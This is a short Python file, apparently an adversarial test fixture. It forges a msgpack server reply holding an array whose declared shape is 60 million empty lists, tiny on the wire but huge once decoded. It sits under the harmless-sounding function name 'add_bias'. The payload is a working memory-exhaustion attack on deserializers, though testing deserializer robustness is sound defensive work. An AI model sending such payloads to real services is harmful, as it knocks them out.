"""Attack: A forged array whose shape is 60 million empty lists, a byte each and 64 in memory."""

import struct

from forge import frame
import msgpack


def add_bias(X):
    shape = b"\xdd" + struct.pack(">I", 60_000_000) + b"\x90" * 60_000_000
    array = msgpack.packb(msgpack.ExtType(2, b"\x93\xa3<f8" + shape + b"\xc4\x00"))
    frame(b"\x82\xa6status\xa2ok\xa5value" + array)
